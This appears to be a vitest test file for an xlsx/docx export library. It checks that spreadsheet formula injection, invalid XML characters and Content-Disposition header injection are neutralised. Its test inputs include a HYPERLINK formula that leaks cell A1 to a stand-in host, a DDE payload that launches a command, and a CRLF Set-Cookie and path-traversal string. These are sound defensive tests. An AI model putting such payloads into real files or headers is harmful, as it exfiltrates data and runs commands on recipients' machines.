/**
 * Exports are safe: a cell that starts with `=`, `+`, `-`, `@` (or a tab / carriage return before one) is
 * written as text, never a formula — in the raw sheet XML (the only `<f>` elements are the totals' SUMs over cell
 * addresses), for exceljs reading it back, for
 * Jixiao's importer, and in docx (no field codes); characters XML cannot hold do not break the file; file names
 * and the Content-Disposition header are safe for Chinese names.
 */

import type { ImportedDocument } from "@jixiao/core/model";
import ExcelJS from "exceljs";
import { strFromU8, unzipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { importDocument } from "../../src/import/index.ts";
import type { SourceDocument } from "../../src/model/table.ts";
import { readDocument } from "../../src/read/index.ts";
import { contentDisposition, exportDocument, safeFileName } from "../../src/write/index.ts";
import { seedDocument } from "./fixtures.ts";

const ATTEMPTS = [
  '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")',
  "+1+1",
  "-2+3",
  "@SUM(A1)",
  "=cmd|' /C calc'!A0",
  "\t=1+2",
  "\r=3+4",
];

/** Seed 004 with hostile text in names, descriptions, targets, goals and the organisation. */
function hostile(): ImportedDocument {
  const doc = seedDocument("004_8649601bbeaed617");
  // The project with the most indicators goes first (it has room for every attempt).
  const most = doc.projects.reduce((a, b) => (b.indicators.length > a.indicators.length ? b : a));
  doc.projects = [most, ...doc.projects.filter((x) => x !== most)];
  const p = doc.projects[0]!;
  p.name = ATTEMPTS[0]!;
  p.goal = ATTEMPTS[3]!;
  p.purpose = ATTEMPTS[4]!;
  p.indicators.slice(0, ATTEMPTS.length).forEach((ind, i) => {
    ind.name = `${ATTEMPTS[i]!}`;
    ind.description = ATTEMPTS[(i + 1) % ATTEMPTS.length]!;
    ind.target = { text: ATTEMPTS[(i + 2) % ATTEMPTS.length]! };
  });
  return doc;
}

const strip = (s: string) => s.replace(/^[\s]+|[\s]+$/g, "");

describe("formula injection: written as text", () => {
  it("xlsx: no formula but the totals' SUMs over addresses, every attempt a string cell, read back as written", async () => {
    const doc = hostile();
    const out = await exportDocument(doc, { as: "project-goals", format: "xlsx" });
    const files = unzipSync(out.data);
    const sheets = Object.keys(files).filter((f) => /^xl\/worksheets\/sheet\d+\.xml$/.test(f));
    expect(sheets.length).toBe(13);
    let sums = 0;
    for (const f of sheets) {
      const xml = strFromU8(files[f]!);
      // The only formulas: 预算数 as the SUM of its parts, made of cell addresses alone.
      for (const m of xml.matchAll(/<f[\s>/][\s\S]*?<\/f>/g)) {
        expect(m[0]).toMatch(/^<f>SUM\([A-Z]+\d+(:[A-Z]+\d+)?(,[A-Z]+\d+(:[A-Z]+\d+)?)*\)<\/f>$/);
        sums++;
      }
      // Text is a shared or inline string, never a formula string, an error or a boolean.
      for (const m of xml.matchAll(/<c [^>]*>/g)) expect(m[0]).not.toMatch(/t="(e|str|b)"/);
    }
    expect(sums).toBe(13);
    const shared = strFromU8(files["xl/sharedStrings.xml"]!);
    expect(shared).toContain("=HYPERLINK(");
    expect(shared).toContain("@SUM(A1)");

    // exceljs reading the file sees strings, not formulas.
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(
      out.data.buffer.slice(out.data.byteOffset, out.data.byteOffset + out.data.byteLength) as ArrayBuffer,
    );
    const seen: string[] = [];
    wb.worksheets[0]!.eachRow((row) => {
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) expect(cell.formula).toMatch(/^SUM\([A-Z0-9:,]+\)$/);
        else if (typeof cell.value === "string") seen.push(strip(cell.value));
      });
    });
    // (XML reads a carriage return as a line feed: the text is the same once outer whitespace is set aside.)
    for (const a of ATTEMPTS) expect(seen).toContain(strip(a));

    // Jixiao's importer reads the same text back.
    const back = importDocument((await readDocument(out.data, out.fileName)) as SourceDocument);
    const p = back.document.projects[0]!;
    expect(p.name).toBe(ATTEMPTS[0]);
    expect(p.goal).toBe(ATTEMPTS[3]);
    expect(p.indicators.slice(0, ATTEMPTS.length).map((i) => i.name)).toEqual(ATTEMPTS.map(strip));
    expect(p.indicators.slice(0, ATTEMPTS.length).map((i) => i.target?.text)).toEqual(
      ATTEMPTS.map((_, i) => strip(ATTEMPTS[(i + 2) % ATTEMPTS.length]!)),
    );
  });

  it("docx: plain text runs, no field codes, read back as written", async () => {
    const doc = hostile();
    const out = await exportDocument(doc, { as: "project-goals", format: "docx" });
    const xml = strFromU8(unzipSync(out.data)["word/document.xml"]!);
    expect(xml).not.toMatch(/<w:fldSimple|<w:instrText|<w:fldChar/);
    expect(xml).toContain("=HYPERLINK(");
    const back = importDocument((await readDocument(out.data, out.fileName)) as SourceDocument);
    const p = back.document.projects[0]!;
    expect(p.name).toBe(ATTEMPTS[0]);
    expect(p.indicators.slice(0, ATTEMPTS.length).map((i) => i.name)).toEqual(ATTEMPTS.map(strip));
  });

  it("characters XML cannot hold are dropped, the files stay readable", async () => {
    const doc = seedDocument("004_8649601bbeaed617");
    doc.projects[0]!.name = "教育\u0000训练\u0001\u001f\uFFFF\uD800";
    for (const format of ["xlsx", "docx"] as const) {
      const out = await exportDocument(doc, { as: "project-goals", format });
      const back = importDocument((await readDocument(out.data, out.fileName)) as SourceDocument);
      expect(back.document.projects[0]!.name).toBe("教育训练");
    }
  });
});

describe("file names", () => {
  it("Chinese names: a safe file name and an RFC 5987 Content-Disposition", () => {
    const name = safeFileName('武汉市公安局/青山区:交通"大队"*?<>|-部门整体绩效自评表', "xlsx");
    expect(name).toBe("武汉市公安局_青山区_交通_大队______-部门整体绩效自评表.xlsx");
    const header = contentDisposition("赵县公安局-部门预算信息公开.pdf");
    expect(header).toBe(
      `attachment; filename="_____-________.pdf"; filename*=UTF-8''${encodeURIComponent("赵县公安局-部门预算信息公开.pdf")}`,
    );
    expect(decodeURIComponent(header.split("''")[1]!)).toBe("赵县公安局-部门预算信息公开.pdf");
  });

  it("no header injection: line breaks, quotes and path parts never reach the header", () => {
    const header = contentDisposition('a"\r\nSet-Cookie: x=1\\..\\..\\etc.pdf');
    expect(header).not.toMatch(/[\r\n]/);
    expect(header.split(";")[1]).not.toMatch(/\\/);
    expect(header).toMatch(/^attachment; filename="[\x20-\x7e]*"; filename\*=UTF-8''[A-Za-z0-9%._~!$&+,;=:@-]+$/);
    expect(safeFileName("...", "pdf")).toBe("document.pdf");
    expect(safeFileName("a".repeat(300), "pdf")).toHaveLength(84);
  });

  it("export names carry the organisation and the form", async () => {
    const out = await exportDocument(seedDocument("003_edf844a12b53980c"), { format: "xlsx" });
    expect(out.fileName).toBe("曲靖市公安局交通警察支队-部门整体支出绩效自评表.xlsx");
    expect(out.contentType).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
  });
});
